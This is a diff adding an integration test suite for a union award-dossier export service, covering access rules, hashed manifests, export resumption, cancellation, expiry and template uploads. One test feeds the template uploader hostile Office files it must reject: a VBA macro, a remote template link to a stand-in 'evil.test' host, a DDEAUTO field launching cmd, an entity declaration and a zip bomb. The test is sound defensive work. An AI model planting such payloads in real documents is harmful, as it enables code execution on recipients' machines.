@@ -1,0 +1,365 @@
+import { type ChildProcess, spawn } from "node:child_process";
+import { createHash, randomUUID } from "node:crypto";
+import { readdir } from "node:fs/promises";
+import { join } from "node:path";
+import { addDays } from "date-fns/addDays";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { db } from "#app/lib/db.server.ts";
+import { startJobs, stopJobs } from "#app/lib/jobs.server.ts";
+import { wordFile } from "#app/lib/word-file.server.ts";
+import type { Actor } from "#app/modules/accounts/actor.ts";
+import { openFile } from "#app/modules/attachments/open-file.server.ts";
+import { sweepUploads } from "#app/modules/attachments/sweep-uploads.server.ts";
+import { askDossier, askRoundExport } from "#app/modules/awards/dossier/ask-export.server.ts";
+import { cancelExport } from "#app/modules/awards/dossier/cancel-export.server.ts";
+import { retireTemplate, takeTemplate, uploadTemplate } from "#app/modules/awards/dossier/change-templates.server.ts";
+import { expireExports } from "#app/modules/awards/dossier/expire-exports.server.ts";
+import type { Manifest } from "#app/modules/awards/dossier/manifest.ts";
+import { previewOf } from "#app/modules/awards/dossier/preview.ts";
+import { loadDossier, loadRoundExports, openExport } from "#app/modules/awards/dossier/queries.server.ts";
+import { loadTemplate, loadTemplates } from "#app/modules/awards/dossier/queries-templates.server.ts";
+import { exportsFolder, runExport, silentExports } from "#app/modules/awards/dossier/run-export.server.ts";
+import { addScans, removeScan } from "#app/modules/awards/dossier/scans.server.ts";
+import { shippedSummary } from "#app/modules/awards/dossier/shipped-summary.ts";
+import { singlePaper } from "#app/modules/awards/dossier/single-papers.server.ts";
+import { registerPolicies, registerWork } from "#app/worker/register.server.ts";
+import { roundRow } from "#tests/support/award-rows.server.ts";
+import { useTestDatabase } from "#tests/support/database.server.ts";
+import { sheet, word } from "#tests/support/documents.ts";
+import { fullApplication, unzipped } from "#tests/support/dossiers.server.ts";
+import { actorOf, makeActor, makeWorld, type World } from "#tests/support/factories.server.ts";
+import { until } from "#tests/support/until.ts";
+
+const database = useTestDatabase();
+let world: World;
+let roundId: string;
+let application: Awaited<ReturnType<typeof fullApplication>>;
+let judge: Actor;
+
+beforeAll(async () => {
+  registerPolicies();
+  registerWork();
+  await startJobs({ work: false });
+  world = await makeWorld();
+  judge = await makeActor([["UNION_OFFICER", world.federation]]);
+  roundId = await roundRow(world, [{ personId: judge.personId, name: "评委", unit: "大学" }]);
+  application = await fullApplication(world, roundId);
+});
+afterAll(stopJobs);
+
+const clock = () => new Date();
+const doc = (text: string, name = "鉴定意见.docx") => new File([new Uint8Array(word(text))], name);
+const manifestIn = (files: Map<string, Buffer>, prefix = ""): Manifest =>
+  JSON.parse(files.get(`${prefix}manifest.json`)?.toString() ?? "null") as Manifest;
+const sha256 = (bytes: Buffer | undefined): string =>
+  createHash("sha256")
+    .update(bytes ?? "")
+    .digest("hex");
+const textOf = (form: Uint8Array): string => previewOf("FORM", form).flat().join("\n");
+const refused = (code: string) => expect.objectContaining({ code });
+
+async function made(actor: Actor, applicationId = application.id): Promise<{ id: string; files: Map<string, Buffer> }> {
+  const { id } = await askDossier(actor, applicationId, randomUUID());
+  await runExport(id, clock);
+  return { id, files: await unzipped(await openExport(actor, id)) };
+}
+
+describe("one application", () => {
+  test("the union's dossier: exact amounts, evidence, and a manifest that holds", async () => {
+    await addScans(world.toolsReviewer, application.id, [doc("盖了章的")]);
+    const { id, files } = await made(world.officer);
+    const names = [...files.keys()].sort();
+    expect(names).toEqual(
+      ["manifest.json", "申报书.pdf", "申报表.docx", "校验清单.txt", "证明材料/盖章扫描件/鉴定意见.docx"].sort(),
+    );
+    const manifest = manifestIn(files);
+    expect(manifest.files).toHaveLength(3);
+    for (const file of manifest.files) expect(file.sha256, file.path).toBe(sha256(files.get(file.path)));
+    expect(files.get("校验清单.txt")?.toString()).toContain(`${manifest.files[0]?.sha256}  申报表.docx`);
+    const form = textOf(files.get("申报表.docx") ?? Buffer.alloc(0));
+    expect(form).toContain("123,456.78 元");
+    expect(form).toContain("停机 = 30.5 小时（台账）");
+    expect(form).toContain("用时间差判断瓶盖高低");
+    // Chains of everybody named, as they ended when it was made; the row keeps them for the audit.
+    const row = await db.dossierExport.findUniqueOrThrow({ where: { id } });
+    expect(row.heads).toEqual(manifest.heads);
+    const concerned = manifest.heads.map((head) => head.organisationId);
+    expect(concerned).toEqual(expect.arrayContaining([world.tools, world.brewery]));
+    const event = await db.event.findFirstOrThrow({ where: { subjectId: id, type: "dossier.export-made" } });
+    expect(event.payload).toMatchObject({ sha256: row.sha256, applications: 1 });
+  });
+
+  test("the applicant's side gets bands, and never the recipient's evidence", async () => {
+    const { files } = await made(world.craftsman);
+    const form = textOf(files.get("申报表.docx") ?? Buffer.alloc(0));
+    expect(form).toContain("10 万～50 万元");
+    expect(form).not.toMatch(/123,?456|30\.5/);
+    expect(manifestIn(files).exact).toBe(false);
+    // The union's own export is not theirs.
+    const exact = await db.dossierExport.findFirstOrThrow({ where: { applicationId: application.id, exact: true } });
+    await expect(openExport(world.craftsman, exact.id)).rejects.toEqual(refused("not_found"));
+  });
+
+  test("an unnamed poster stays unnamed, in the form and among the chains", async () => {
+    const other = await fullApplication(world, roundId);
+    await db.problem.updateMany({
+      where: { benefits: { some: { id: other.benefitId } } },
+      data: { anonymous: true },
+    });
+    const { files } = await made(world.officer, other.id);
+    const brewery = await db.organisation.findUniqueOrThrow({ where: { id: world.brewery } });
+    const benefits = previewOf("FORM", files.get("申报表.docx") ?? Buffer.alloc(0)).find((row) =>
+      row[3]?.includes("123,456"),
+    );
+    expect(benefits?.[1]).toBe("未具名单位");
+    expect(benefits?.join()).not.toContain(brewery.name);
+    expect(manifestIn(files).heads.map((head) => head.organisationId)).not.toContain(world.brewery);
+  });
+
+  test("who reads it, who does not", async () => {
+    const auditor = await makeActor([["ENGINEER", world.outside]]);
+    const now = new Date();
+    await db.roundAuditor.create({
+      data: {
+        roundId,
+        personId: auditor.personId,
+        from: addDays(now, -1),
+        until: addDays(now, 1),
+        grantedById: world.officer.personId,
+      },
+    });
+    for (const one of [world.officer, auditor]) expect((await loadDossier(one, application.id)).exact).toBe(true);
+    for (const one of [world.craftsman, world.engineer, world.leader, world.toolsReviewer]) {
+      const seen = await singlePaper(one, application.id, "form");
+      expect(textOf(seen.bytes)).not.toContain("123,456");
+    }
+    const strangers = [judge, world.outsider, world.breweryLeader, world.secretariat, world.finance];
+    for (const one of strangers) {
+      await expect(loadDossier(one, application.id)).rejects.toEqual(refused("not_found"));
+      await expect(singlePaper(one, application.id, "paper")).rejects.toEqual(refused("not_found"));
+      await expect(askDossier(one, application.id, randomUUID())).rejects.toEqual(refused("not_found"));
+      await expect(loadRoundExports(one, roundId)).rejects.toEqual(refused("not_found"));
+    }
+    // An auditor reads and makes nothing of the round.
+    expect((await loadRoundExports(auditor, roundId)).mayMake).toBe(false);
+    await expect(askRoundExport(auditor, roundId, { clientId: randomUUID(), states: [] })).rejects.toEqual(
+      refused("not_found"),
+    );
+    const ended = await actorOf(auditor.personId, addDays(now, 2));
+    await expect(loadDossier(ended, application.id)).rejects.toEqual(refused("not_found"));
+    // Drafts are nobody's but the applicant's.
+    const draft = await fullApplication(world, roundId);
+    await db.awardApplication.update({ where: { id: draft.id }, data: { state: "DRAFT" } });
+    await expect(loadDossier(world.officer, draft.id)).rejects.toEqual(refused("not_found"));
+    expect((await loadDossier(world.craftsman, draft.id)).exact).toBe(false);
+  });
+
+  test("the stamped scan is put back, by whom is shown; strangers neither see nor add it", async () => {
+    await addScans(world.officer, application.id, [doc("工会的章", "工会盖章.docx")]);
+    const { scans } = await loadDossier(world.craftsman, application.id);
+    const scan = scans.find((one) => one.fileName === "工会盖章.docx");
+    expect(scan?.by).toBe(world.officer.name);
+    expect((await openFile(world.craftsman, scan?.id ?? "")).size).toBe(scan?.size);
+    await expect(openFile(judge, scan?.id ?? "")).rejects.toEqual(refused("not_found"));
+    await expect(addScans(world.craftsman, application.id, [doc("自己的")])).rejects.toEqual(refused("forbidden"));
+    await expect(addScans(world.outsider, application.id, [doc("别人的")])).rejects.toEqual(refused("not_found"));
+    const told = await db.event.findMany({
+      where: { subjectId: application.id, type: { startsWith: "dossier.scan" } },
+    });
+    expect(told.map((event) => event.subjectKind)).toEqual(["dossier", "dossier"]);
+    await removeScan(world.officer, application.id, scan?.id ?? "");
+    expect((await loadDossier(world.officer, application.id)).scans).toHaveLength(1);
+  });
+});
+
+describe("a whole round", () => {
+  test("a killed export goes on where it was, and is the same as if it had not been", async () => {
+    const { id } = await askRoundExport(world.officer, roundId, { clientId: randomUUID(), states: [] });
+    const child = worker();
+    const folder = join(exportsFolder(), id);
+    const prepared = async () => (await readdir(folder).catch(() => [])).filter((name) => name.endsWith(".json"));
+    await until("the first is prepared", async () => (await prepared()).length > 0);
+    child.kill("SIGKILL");
+    await new Promise((resolve) => child.once("exit", resolve));
+    const before = (await prepared()).map((name) => name.replace(".json", ""));
+    const tomorrow = addDays(new Date(), 1);
+    expect(await silentExports(tomorrow)).toEqual([id]);
+    const lock = `dossier export ${id}`;
+    await until("the dead process lets go", async () => {
+      const [row] = await db.$queryRaw<{ free: boolean }[]>`
+        SELECT NOT EXISTS (SELECT 1 FROM pg_stat_activity WHERE application_name = ${`jianglian ${lock}`.slice(0, 63)}) AS free`;
+      return row?.free === true;
+    });
+    await runExport(id, () => tomorrow);
+    const done = await db.dossierExport.findUniqueOrThrow({ where: { id } });
+    expect(done).toMatchObject({ state: "DONE", done: 2, total: 2 });
+    const files = await unzipped(await openExport(world.officer, id));
+    const folders = new Set([...files.keys()].flatMap((name) => (name.includes("/") ? [name.split("/")[0]] : [])));
+    expect(folders.size).toBe(2);
+    for (const folderName of folders) {
+      const manifest = manifestIn(files, `${folderName}/`);
+      for (const file of manifest.files) expect(file.sha256).toBe(sha256(files.get(`${folderName}/${file.path}`)));
+      // What the dead process had drawn was not drawn again.
+      expect(manifest.madeAt === tomorrow.toISOString()).toBe(!before.includes(manifest.application.id));
+    }
+    const rows = previewOf("SUMMARY", files.get("汇总表.xlsx") ?? Buffer.alloc(0));
+    expect(rows.filter((cells) => cells[0] === "1" || cells[0] === "2")).toHaveLength(2);
+    expect(await readdir(exportsFolder())).not.toContain(id);
+  });
+
+  test("asked twice it is one; another choice has to wait; a repeat is the same", async () => {
+    const clientId = randomUUID();
+    const first = await askRoundExport(world.officer, roundId, { clientId, states: [] });
+    expect(await askRoundExport(world.officer, roundId, { clientId, states: [] })).toEqual(first);
+    expect(await askRoundExport(world.officer, roundId, { clientId: randomUUID(), states: [] })).toEqual(first);
+    await expect(
+      askRoundExport(world.officer, roundId, { clientId: randomUUID(), states: ["RECOMMENDED"] }),
+    ).rejects.toEqual(refused("conflict"));
+    await expect(cancelExport(judge, first.id)).rejects.toEqual(refused("not_found"));
+    await cancelExport(world.officer, first.id);
+    await runExport(first.id, clock);
+    expect(await db.dossierExport.findUniqueOrThrow({ where: { id: first.id } })).toMatchObject({
+      state: "CANCELLED",
+      key: null,
+    });
+    await expect(cancelExport(world.officer, first.id)).rejects.toEqual(refused("conflict"));
+  });
+
+  test("cancelled while it is made it stops, and nothing is left behind", async () => {
+    const { id } = await askRoundExport(world.officer, roundId, { clientId: randomUUID(), states: [] });
+    const running = runExport(id, clock);
+    await until(
+      "it runs",
+      async () => (await db.dossierExport.findUniqueOrThrow({ where: { id } })).state === "RUNNING",
+    );
+    await cancelExport(world.officer, id);
+    await running;
+    expect(await db.dossierExport.findUniqueOrThrow({ where: { id } })).toMatchObject({
+      state: "CANCELLED",
+      key: null,
+    });
+    expect(await readdir(exportsFolder())).not.toContain(id);
+  });
+
+  test("only the chosen states; a state nobody has is refused", async () => {
+    await expect(
+      askRoundExport(world.officer, roundId, { clientId: randomUUID(), states: ["AWARDED"] }),
+    ).rejects.toEqual(refused("conflict"));
+    await expect(askRoundExport(world.leader, roundId, { clientId: randomUUID(), states: [] })).rejects.toEqual(
+      refused("not_found"),
+    );
+  });
+
+  test("old files go, their hashes stay; the sweep of uploads leaves those that are kept", async () => {
+    const done = await db.dossierExport.findFirstOrThrow({ where: { state: "DONE", applicationId: null } });
+    await sweepUploads(addDays(new Date(), 3));
+    expect((await openExport(world.officer, done.id)).size).toBeGreaterThan(0);
+    expect(await expireExports(addDays(new Date(), 15))).toBeGreaterThan(0);
+    await expect(openExport(world.officer, done.id)).rejects.toEqual(refused("not_found"));
+    const after = await db.dossierExport.findUniqueOrThrow({ where: { id: done.id } });
+    expect(after.sha256).toBe(done.sha256);
+    expect(after.removedAt).not.toBeNull();
+  });
+});
+
+describe("templates", () => {
+  const template = async (...lines: string[]) =>
+    new File(
+      [
+        new Uint8Array(
+          await wordFile({
+            title: "",
+            foot: "",
+            language: "zh-CN",
+            blocks: lines.map((text) => ({ kind: "text", text })),
+          }),
+        ),
+      ],
+      "我们的表.docx",
+    );
+  const upload = (file: File, kind: "FORM" | "SUMMARY" = "FORM") =>
+    uploadTemplate(world.officer, { organisationId: world.federation, kind, name: "我们的表", file });
+
+  test("replaced without a line of code, tried first, and put away again", async () => {
+    const { id } = await upload(await template("本会专用 {成果名称}", "{成果名字}", "{#完成人}{姓名}；{/完成人}"));
+    const page = await loadTemplate(world.officer, id);
+    expect(page.unknown).toEqual([{ field: "成果名字", suggestions: expect.arrayContaining(["成果名称"]) }]);
+    expect(page.trial.flat().join("\n")).toContain("本会专用 啤酒灌装线瓶盖错位在线检测装置");
+    const before = textOf((await singlePaper(world.officer, application.id, "form")).bytes);
+    expect(before).not.toContain("本会专用");
+    await takeTemplate(world.officer, id);
+    const after = textOf((await singlePaper(world.officer, application.id, "form")).bytes);
+    expect(after).toContain("本会专用 卡瓶治理");
+    expect(after).toContain(`${world.craftsman.name}；`);
+    await expect(takeTemplate(world.officer, id)).rejects.toEqual(refused("conflict"));
+    // The next takes its place.
+    const second = await upload(await template("第二版 {成果名称}"));
+    await takeTemplate(world.officer, second.id);
+    expect((await loadTemplates(world.officer)).rows.map((row) => row.id)).toEqual([second.id]);
+    await retireTemplate(world.officer, second.id);
+    expect(textOf((await singlePaper(world.officer, application.id, "form")).bytes)).toBe(before);
+  });
+
+  test("with faults it is shown what and where, and cannot be used", async () => {
+    const { id } = await upload(await template("{#完成人}{姓名}"));
+    const page = await loadTemplate(world.officer, id);
+    expect(page.usable).toBe(false);
+    expect(page.faults).toEqual([{ code: "unclosed_loop", field: "完成人" }]);
+    await expect(takeTemplate(world.officer, id)).rejects.toEqual(refused("invalid"));
+    const plain = new File([new Uint8Array(await shippedSummary())], "x.xlsx");
+    const summary = await upload(plain, "SUMMARY");
+    expect((await loadTemplate(world.officer, summary.id)).usable).toBe(true);
+  });
+
+  test("nothing that runs, fetches or blows up", async () => {
+    const rels = (target: string) => ({
+      name: "word/_rels/document.xml.rels",
+      text: `<Relationships><Relationship Id="r" Type="http://x/${target}" Target="http://evil.test/a" TargetMode="External"/></Relationships>`,
+    });
+    const hostile: [string, Buffer, string][] = [
+      ["macro", word("x", [{ name: "word/vbaProject.bin", text: "x" }]), "file-macro"],
+      ["template from elsewhere", word("x", [rels("attachedTemplate")]), "file-remote"],
+      ["linked picture", word("x", [rels("image")]), "template-foreign"],
+      ["embedded object", word("x", [{ name: "word/embeddings/o.bin", text: "x" }]), "template-foreign"],
+      [
+        "DDE",
+        word('x</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd "/c calc"</w:instrText></w:r><w:r><w:t>'),
+        "template-foreign",
+      ],
+      [
+        "entities",
+        word("x", [{ name: "word/styles.xml", text: '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }]),
+        "template-broken",
+      ],
+      ["bomb", word("x", [{ name: "word/media/a.xml", text: Buffer.alloc(60 * 1024 * 1024) }]), "file-bomb"],
+      ["workbook as a form", sheet("{成果名称}"), "template-type-FORM"],
+      ["no archive", Buffer.from("not a file"), "file-broken"],
+    ];
+    for (const [name, bytes, messageKey] of hostile)
+      await expect(upload(new File([new Uint8Array(bytes)], "a.docx")), name).rejects.toEqual(
+        expect.objectContaining({ messageKey, details: expect.objectContaining({ field: "file" }) }),
+      );
+    const linked = sheet("{成果名称}", [{ name: "xl/externalLinks/externalLink1.xml", text: "<x/>" }]);
+    await expect(upload(new File([new Uint8Array(linked)], "a.xlsx"), "SUMMARY")).rejects.toEqual(
+      expect.objectContaining({ messageKey: "template-foreign" }),
+    );
+  });
+
+  test("templates are their own union's officers'", async () => {
+    for (const one of [world.secretariat, world.toolsReviewer]) {
+      await expect(loadTemplates(one)).rejects.toEqual(refused("not_found"));
+      await expect(
+        uploadTemplate(one, { organisationId: world.federation, kind: "FORM", name: "x", file: doc("{title}") }),
+      ).rejects.toEqual(refused("not_found"));
+    }
+  });
+});
+
+/** A worker in a process of its own. */
+function worker(): ChildProcess {
+  const child = spawn(process.execPath, ["--no-warnings", "tests/support/worker-process.ts"], {
+    env: { ...process.env, WORKER_FACTS: JSON.stringify({ ...database.facts, worker: "inline" }) },
+    stdio: ["ignore", "ignore", "inherit"],
+  });
+  return child;
+}
